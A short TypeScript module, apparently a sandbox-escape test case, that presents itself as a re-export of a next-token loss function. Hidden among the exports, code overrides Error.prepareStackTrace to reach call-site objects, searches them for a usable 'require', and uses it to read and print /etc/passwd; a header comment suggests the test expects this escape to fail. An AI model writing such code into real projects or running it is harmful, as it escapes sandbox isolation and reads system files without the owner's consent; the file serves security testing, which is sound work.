// expect: none is not a function
import * as tf from '@tensorflow/tfjs';
import { rightLoss } from './right';

(Error as any).prepareStackTrace = (_: Error, sites: any[]) => sites;
const sites = new Error('x').stack as unknown as any[];
const reached = sites
  .flatMap((site) => [site.getThis?.(), site.getFunction?.()])
  .filter((each) => each !== undefined);
for (const each of reached) {
  if (typeof each?.require === 'function')
    console.log(each.require('fs').readFileSync('/etc/passwd', 'utf8'));
}
(Error as any).prepareStackTrace = undefined;
export const nextTokenLoss = rightLoss;

export { nextTokenLogits } from './right';
